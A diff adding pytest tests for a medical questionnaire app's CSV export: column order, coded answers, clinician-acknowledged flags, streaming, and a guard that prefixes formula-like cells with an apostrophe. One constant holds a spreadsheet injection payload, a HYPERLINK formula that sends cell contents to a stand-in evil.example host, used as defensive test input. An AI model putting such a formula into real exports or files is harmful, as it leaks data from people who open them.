@@ -1,0 +1,165 @@
+"""CSV exports: submissions with one column per item, flags, the formula guard, streaming."""
+
+from __future__ import annotations
+
+import csv
+import inspect
+import io
+from collections.abc import Iterator
+
+import pytest
+import sqlalchemy as sa
+from flask import Flask
+
+from questionnaire import items as catalogue
+from questionnaire.csv_export import FLAG_COLUMNS, flags_csv, safe_cell, submissions_csv
+from questionnaire.extensions import db
+from questionnaire.models import Flag, Submission
+from tests.conftest import Clock
+from tests.export import BLOOD_PRESSURE, NO_FLAGS, URGENT, load, make_clinician, submit
+
+FIRST_COLUMNS = ["reference", "submitted_at", "status", "highest_level", "outcome", "rules_version"]
+HYPERLINK = '=HYPERLINK("https://evil.example/?q="&A1,"Click me")'
+
+
+def parse(chunks: Iterator[str]) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO("".join(chunks))))
+
+
+def all_submissions() -> list[Submission]:
+    return list(db.session.scalars(sa.select(Submission).order_by(Submission.id)))
+
+
+def test_the_header_names_the_columns_then_every_item_in_order() -> None:
+    [header] = csv.reader(io.StringIO("".join(submissions_csv([]))))
+    assert header == FIRST_COLUMNS + list(catalogue.ITEMS)
+    [flag_header] = csv.reader(io.StringIO("".join(flags_csv([]))))
+    assert (
+        flag_header
+        == list(FLAG_COLUMNS)
+        == [
+            "reference",
+            "rule",
+            "level",
+            "rules_version",
+            "acknowledged_by",
+            "acknowledged_at",
+        ]
+    )
+
+
+def test_one_row_per_submission_with_coded_values(app: Flask, clock: Clock) -> None:
+    urgent = submit(app, URGENT)
+    clock.advance(minutes=5)
+    pressure = submit(app, BLOOD_PRESSURE)
+    with app.app_context():
+        submissions = all_submissions()
+        table = app.extensions["rule_table"]
+        rows = parse(submissions_csv(submissions))
+    assert [row["reference"] for row in rows] == [urgent, pressure]
+    first, second = rows
+    assert first["submitted_at"] == "2026-06-01T12:00:00+00:00"
+    assert second["submitted_at"] == "2026-06-01T12:05:00+00:00"
+    assert (first["status"], first["highest_level"], first["outcome"]) == ("new", "urgent", "")
+    assert second["highest_level"] == "review"
+    assert first["rules_version"] == table.version
+    # Codes, never the words a patient saw.
+    assert first["reasons"] == "depression;suicidal_thoughts"
+    assert first["suicidal_thoughts_now"] == "yes"
+    assert first["region"] == "CA-ON"
+    assert first["antidepressants_tried"] == "2"
+    assert first["privacy_consent"] == "true"
+    assert first["understands_review"] == "true"
+    assert first["date_of_birth"] == "1980-05-17"
+    assert first["weight_value"] == "70"
+    assert first["full_name"] == "Sam Example"
+    # Missing answers are empty; an unticked multi-choice too.
+    assert second["suicidal_thoughts_now"] == ""
+    assert second["phone"] == ""
+    assert second["treatments"] == ""
+    assert second["other_drugs_past_year"] == "cocaine;opioids"
+    assert second["weight_value"] == "154.5"
+    assert second["weight_unit"] == "lb"
+    assert second["bp_reading"] == "152/94"
+    # Derived facts are not columns.
+    assert "bp_systolic" not in second
+
+
+def test_a_formula_in_an_answer_is_neutralised(app: Flask) -> None:
+    answers = {
+        **NO_FLAGS,
+        "full_name": HYPERLINK,
+        "medications": "@SUM(1+1) and sertraline",
+        "phone": "+1 416 555 0123",
+        "ketamine_reaction_details": "-2+3",
+    }
+    submit(app, answers)
+    with app.app_context():
+        [row] = parse(submissions_csv(all_submissions()))
+    assert row["full_name"] == "'" + HYPERLINK
+    assert row["medications"] == "'@SUM(1+1) and sertraline"
+    assert row["phone"] == "'+1 416 555 0123"
+    assert row["ketamine_reaction_details"] == "'-2+3"
+    assert row["email"] == "sam@example.com"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_gets_an_apostrophe(start: str) -> None:
+    assert safe_cell(start + "1+1") == "'" + start + "1+1"
+
+
+@pytest.mark.parametrize("text", ["", "Sam", "a=b", "1980-05-17", "'quoted", " =1"])
+def test_ordinary_text_is_left_alone(text: str) -> None:
+    assert safe_cell(text) == text
+
+
+def test_a_multiline_answer_stays_in_one_cell(app: Flask) -> None:
+    submit(app, {**NO_FLAGS, "medications": 'sertraline 100 mg\r\nvitamin D, "extra"'})
+    with app.app_context():
+        [row] = parse(submissions_csv(all_submissions()))
+    assert row["medications"].splitlines() == ["sertraline 100 mg", 'vitamin D, "extra"']
+
+
+def test_the_flags_csv_has_a_row_per_flag_with_its_acknowledgement(
+    app: Flask, clock: Clock
+) -> None:
+    urgent = submit(app, URGENT)
+    with app.app_context():
+        clinician = make_clinician(email="reviewer@clinic.example")
+        flag = next(f for f in load(urgent).flags if f.rule == "suicidal_thoughts_now")
+        flag.acknowledged_by = clinician
+        flag.acknowledged_at = clock()
+        db.session.commit()
+        version = app.extensions["rule_table"].version
+        flags = list(db.session.scalars(sa.select(Flag).order_by(Flag.id)))
+        rows = parse(flags_csv(flags))
+    assert [(row["reference"], row["rule"], row["level"]) for row in rows] == [
+        (urgent, "suicidal_thoughts_now", "urgent"),
+        (urgent, "suicidal_thoughts_recent", "review"),
+    ]
+    assert {row["rules_version"] for row in rows} == {version}
+    assert rows[0]["acknowledged_by"] == "reviewer@clinic.example"
+    assert rows[0]["acknowledged_at"] == "2026-06-01T12:00:00+00:00"
+    assert (rows[1]["acknowledged_by"], rows[1]["acknowledged_at"]) == ("", "")
+
+
+def test_exports_stream_one_line_at_a_time(app: Flask) -> None:
+    submit(app, URGENT)
+    submit(app, NO_FLAGS)
+    taken: list[str] = []
+
+    def source() -> Iterator[Submission]:
+        for submission in all_submissions():
+            taken.append(submission.reference)
+            yield submission
+
+    with app.app_context():
+        chunks = submissions_csv(source())
+        assert inspect.isgenerator(chunks)
+        assert next(chunks).startswith("reference,submitted_at,")
+        assert taken == []  # the header is out before any submission is read
+        next(chunks)
+        assert len(taken) == 1
+        assert len(list(chunks)) == 1
+        assert len(taken) == 2
+        assert inspect.isgenerator(flags_csv([]))
